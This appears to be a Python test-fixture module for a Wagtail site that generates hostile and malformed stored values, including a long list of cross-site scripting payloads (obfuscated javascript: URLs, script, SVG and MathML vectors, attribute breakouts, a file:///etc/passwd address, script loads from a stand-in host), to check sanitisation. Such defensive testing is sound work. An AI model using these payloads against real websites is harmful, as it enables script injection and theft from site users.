"""What no form of ours would ever store: scripts in every disguise, and values of the wrong kind."""

from collections.abc import Callable, Iterable, Iterator
from typing import Any

from django.conf import settings
from django.db.models import Model
from wagtail import blocks
from wagtail.contrib.typed_table_block.blocks import BaseTypedTableBlock

# Whatever runs in these is called so.
CANARY = "pwned"
FILM = "https://vimeo.com/12345678"
MOST_ON_A_PAGE = 100
KEY = "00000000-0000-0000-0000-000000000001"

ADDRESSES = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "\tjavascript:pwned()",
    "\x01javascript:pwned()",
    "\x1fjavascript:pwned()",
    "java\tscript:pwned()",
    "java\nscript:pwned()",
    "java\r\nscript:pwned()",
    "javascript\t:pwned()",
    "\u00a0javascript:pwned()",
    "\u2028javascript:pwned()",
    "\ufeffjavascript:pwned()",
    "javascript&colon;pwned()",
    "javascript&#58;pwned()",
    "&#106;avascript:pwned()",
    "&#x6A;&#x61;vascript:pwned()",
    "&#0000106avascript:pwned()",
    "jav&#x09;ascript:pwned()",
    "java&Tab;script&colon;pwned()",
    "&#1;javascript:pwned()",
    "&amp;#106;avascript:pwned()",
    "javascript://example.org/%0apwned()",
    "vbscript:pwned()",
    "livescript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "DATA:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=pwned()>",
    "blob:https://example.org/pwned",
    "filesystem:https://example.org/pwned",
    "file:///etc/passwd",
    "view-source:javascript:pwned()",
    "feed:javascript:pwned()",
    "//pwned.example/",
    "/\\pwned.example/",
    "/\t/pwned.example/",
    "https://[pwned",
    "https://pwned]/",
    'https://example.org/" onclick="pwned()',
    "https://example.org/' onclick='pwned()",
    'https://example.org/"><script>pwned()</script>',
    "https://example.org/)[x](javascript:pwned())",
    f'{FILM}?" onload="pwned()',
    f'{FILM}#"><script>pwned()</script>',
    "https://example.org:pwned/",
    "mailto:pwned@example.org?body=<script>pwned()</script>",
]

MARKUP = [
    "<script>pwned()</script>",
    "<p>Words</p><SCRIPT SRC=//pwned.example/x.js></SCRIPT >",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\n>pwned()</script\t\n bar>",
    "<script/x>pwned()</script/x>",
    "<<script>pwned()//<</script>",
    "<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()>",
    '<img """><script>pwned()</script>">',
    "<img src=javascript:pwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()//",
    "<svg><script>pwned()</script></svg>",
    "<svg><script xlink:href=data:,pwned()></script></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text x="20" y="20">words</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:pwned() /><a id=x><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    '<math><a xlink:href="javascript:pwned()">words</a></math>',
    '<iframe src="javascript:pwned()"></iframe>',
    "<iframe srcdoc='&lt;script&gt;pwned()&lt;/script&gt;'></iframe>",
    '<object data="javascript:pwned()"></object>',
    '<embed src="javascript:pwned()">',
    '<embed embedtype="media" url="javascript:pwned()"/>',
    '<embed embedtype="media" url="https://example.org/pwned"/>',
    '<embed embedtype="image" id="pwned" format="left" alt="x"/>',
    '<embed embedtype="image" id="1" format="pwned" alt="&quot; onload=pwned()"/>',
    '<embed embedtype="pwned"/>',
    '<form action="javascript:pwned()"><button formaction="javascript:pwned()">words</button></form>',
    '<input autofocus onfocus=pwned()><details open ontoggle="pwned()">',
    '<video><source onerror="pwned()"></video><audio src=x onerror=pwned()>',
    '<body onload=pwned()><base href="https://pwned.example/"><link rel=stylesheet href=//pwned.example/x.css>',
    '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    "<style>@import '//pwned.example/x.css'; p { background: url(javascript:pwned()) }</style>",
    '<p style="background:url(javascript:pwned())" onclick="pwned()" onmouseover=pwned()>Words</p>',
    '<p data-block-key="a1" ONCLICK="pwned()" class="pwned" id="main">Words</p>',
    "<b onclick\n=\npwned()>Words</b><i/onclick=pwned()>words</i>",
    '<a href="https://example.org/" onclick="pwned()" target="_blank" ping="https://pwned.example/">Words</a>',
    '<a linktype="page" id="1" onclick="pwned()" href="javascript:pwned()">Words</a>',
    '<a linktype="document" id="1" onclick="pwned()">Words</a>',
    '<a linktype="external" href="javascript:pwned()">Words</a>',
    '<a linktype="email" href="javascript:pwned()">Words</a>',
    '<a linktype="anchor" href="javascript:pwned()">Words</a>',
    '<a linktype="pwned" id="9" href="javascript:pwned()">Words</a>',
    '<a linktype="page" id="&quot;&gt;&lt;script&gt;pwned()">Words</a><a linktype="document" id="-1">words</a>',
    '<a linktype="page">Words</a><a linktype="document">words</a><a linktype>words</a>',
    '<a title="<a linktype=page id=1>" href="javascript:pwned()">Words</a>',
    '<a href="https://example.org/" href="javascript:pwned()">Words</a>',
    "<a\nhref\n=\n'javascript:pwned()'>Words</a><a/href=javascript:pwned()>words</a>",
    '<A HREF="javascript:pwned()">Words</A><a xlink:href="javascript:pwned()">words</a>',
    '<a href="https://example.org/"><a href="javascript:pwned()">Words</a></a>',
    "<!--><img src=x onerror=pwned()>-->",
    "<!-- --!><img src=x onerror=pwned()> -->",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "<!DOCTYPE html [<!ENTITY x '><img src=x onerror=pwned()>'>]>",
    "<!x><img src=x onerror=pwned()><?x ><img src=x onerror=pwned()>?>",
    "</x><img src=x onerror=pwned()></p></div></main></body></html><script>pwned()</script>",
    "<textarea><img title='</textarea><img src=x onerror=pwned()>'></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<title><p title='</title><img src=x onerror=pwned()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=pwned()>'></xmp><plaintext>",
    "<template><script>pwned()</script></template><select><script>pwned()</script></select>",
    "<custom-element onclick=pwned()>Words</custom-element>",
    "&lt;script&gt;pwned()&lt;/script&gt; &amp;lt;img src=x onerror=pwned()&amp;gt;",
    "{{ pwned }} {% pwned %} ${pwned()} <%= pwned() %>",
    '<p>Words <a href="',
    "<p>Words <a linktype='page' id='1",
    "<p><b><i><ul><li><a href='https://example.org/'>Words that are never closed",
    "</b></i></li></ul></p>Words",
    '<footnote id="x"><script>pwned()</script></footnote>',
    '<footnote id="<img src=x onerror=pwned()>">1</footnote>',
    f'<footnote id="{KEY}" onclick="pwned()"><img src=x onerror=pwned()></footnote>',
    "\x1e<b>\x1e</b>",
    '"><script>pwned()</script>',
    "' onclick='pwned()",
    '" onclick="pwned()" x="',
    "--></script><script>pwned()</script>",
    "]]></content:encoded><script>pwned()</script>",
    "[words](javascript:pwned()) ![x](javascript:pwned()) <javascript:pwned()>",
    "[words]: javascript:pwned()\n\n[words]\n\n    <script>pwned()</script>\n\n```\n<script>pwned()</script>",
    "\u202e\u2066 words \u200b\ufffe\uffff \U000e0001",
    "words " * 3 + "<" * 300,
    "<b>" * 1500 + "words",
    "<div>" * 1500 + "words",
    "<b><p>Words</b></p><i><ul><li>words</i><li>words</ul><a href=javascript:pwned()><p>words",
]
# What PostgreSQL has no way to store.
UNSTORABLE = ["<scr\0ipt>pwned()</scr\0ipt>", "\0javascript:pwned()", "words \ud800 words", "java\0script:pwned()"]


def deep(depth: int) -> list:
    nest: list = []
    for _level in range(depth):
        nest = [nest]
    return nest


WRONG_KINDS: list[Any] = [
    None,
    True,
    0,
    -5,
    7,
    2.5,
    10**30,
    999_999,
    "",
    "12",
    "words",
    [],
    [None],
    ["words"],
    [[]],
    [["text", "words"]],
    [{"type": "item"}],
    [{"type": "item", "value": None}],
    [{"type": "pwned", "value": "words", "id": KEY}],
    {},
    {"pwned": "pwned"},
    {"type": "item", "value": "words", "id": ["pwned"]},
    {"columns": 5, "rows": "words"},
    {"columns": [None, {"type": ["pwned"]}, {"type": "text", "heading": {}}], "rows": [None, {"values": 5}]},
    deep(60),
]


def is_on_postgres() -> bool:
    return "postgresql" in settings.DATABASES["default"]["ENGINE"]


def hostile_words() -> list[str]:
    return [*MARKUP, *ADDRESSES, *([] if is_on_postgres() else UNSTORABLE)]


def hostile_texts() -> list[str]:
    """Formatted texts, with each address in links, quoted in different ways."""
    quotes = ("<a href='{}'>words</a>", "<a href={}>words</a>", '<A HREF = "{}" >words</A >')
    links = [f'<p>See <a href="{address}">words</a>.</p>' for address in ADDRESSES]
    others = [quotes[place % 3].format(address) for place, address in enumerate(ADDRESSES)]
    return [*hostile_words(), *links, *others]


# Blocks, made from their definitions

Fill = Callable[[blocks.Block], Any]


def filled(block: blocks.Block, leaf: Fill) -> Any:
    """A value of the block in its stored form, whole, with the leaves that are asked for."""
    if isinstance(block, blocks.StreamBlock):
        return [{"type": name, "value": filled(child, leaf), "id": KEY} for name, child in block.child_blocks.items()]
    if isinstance(block, blocks.ListBlock):
        return [{"type": "item", "value": filled(block.child_block, leaf), "id": KEY}]
    if isinstance(block, BaseTypedTableBlock):
        cells = [filled(child, leaf) for child in block.child_blocks.values()]
        columns = [{"type": name, "heading": leaf(blocks.CharBlock()), "pwned": "pwned"} for name in block.child_blocks]
        return {"columns": columns, "rows": [{"values": cells}, {"values": cells}], "caption": leaf(blocks.CharBlock())}
    if isinstance(block, blocks.StructBlock):
        return {name: filled(child, leaf) for name, child in block.child_blocks.items()}
    return leaf(block)


def is_words(block: blocks.Block) -> bool:
    return isinstance(block, blocks.CharBlock | blocks.TextBlock | blocks.RichTextBlock | blocks.RegexBlock)


def good_leaf(words: str, objects: dict[type[Model], Model]) -> Fill:
    """What an editor could have entered, each text being these words."""

    def leaf(block: blocks.Block) -> Any:
        if isinstance(block, blocks.RichTextBlock):
            return f"<p>{words}</p>"
        if isinstance(block, blocks.RegexBlock):
            return ""
        if isinstance(block, blocks.URLBlock):
            return FILM
        if isinstance(block, blocks.ChoiceBlock | blocks.MultipleChoiceBlock):
            return block.get_default()
        if isinstance(block, blocks.BooleanBlock):
            return False
        if isinstance(block, blocks.ChooserBlock):
            return objects[block.model_class].pk
        if isinstance(block, blocks.IntegerBlock | blocks.DecimalBlock | blocks.FloatBlock):
            return 3
        if is_words(block):
            return words
        raise AssertionError(f"Say what an editor enters in {block!r}, in tests/hostile/values.py.")

    return leaf


def some(values: Iterable[Any]) -> list[Any]:
    """As many as a page can be read with in a second or two, from all over."""
    values = list(values)
    return values[:: len(values) // MOST_ON_A_PAGE + 1]


def hostile_values(block: blocks.Block, objects: dict[type[Model], Model]) -> Iterator[Any]:
    """The stored values that a block may be found with, hostile in its texts, in its addresses and in everything."""
    good = good_leaf("words", objects)
    kinds = {type(leaf) for leaf in leaves_of(block)}
    has_texts = any(issubclass(kind, blocks.RichTextBlock) for kind in kinds)
    for words in hostile_texts() if has_texts else hostile_words():
        # Of several targets of a link an address comes last.
        yield filled(block, lambda leaf, words=words: words if is_words(leaf) else None if is_key(leaf) else good(leaf))
    for words in ADDRESSES:
        if blocks.URLBlock in kinds:
            yield filled(block, lambda leaf, words=words: words if isinstance(leaf, blocks.URLBlock) else good(leaf))
    for words in MARKUP[::4]:
        if not all(issubclass(kind, blocks.RichTextBlock) for kind in kinds):
            yield filled(block, lambda leaf, words=words: words)
    if any(map(is_key, leaves_of(block))):
        yield filled(block, lambda leaf: MARKUP[-1] if is_words(leaf) else good(leaf))


def leaves_of(block: blocks.Block) -> list[blocks.Block]:
    found: list[blocks.Block] = []

    def leaf(block: blocks.Block) -> None:
        found.append(block)

    filled(block, leaf)
    return found


def is_key(block: blocks.Block) -> bool:
    return isinstance(block, blocks.ChooserBlock)


def damaged_values(block: blocks.Block, objects: dict[type[Model], Model]) -> Iterator[Any]:
    """The whole value with each of its parts in turn replaced by one of a wrong kind."""
    for wrong in WRONG_KINDS:
        yield from replaced(filled(block, good_leaf("words", objects)), wrong)


def replaced(value: Any, wrong: Any) -> Iterator[Any]:
    yield wrong
    if isinstance(value, dict):
        for name, part in value.items():
            for other in replaced(part, wrong):
                yield {**value, name: other}
    elif isinstance(value, list):
        for place, part in enumerate(value):
            for other in replaced(part, wrong):
                yield [*value[:place], other, *value[place + 1 :]]
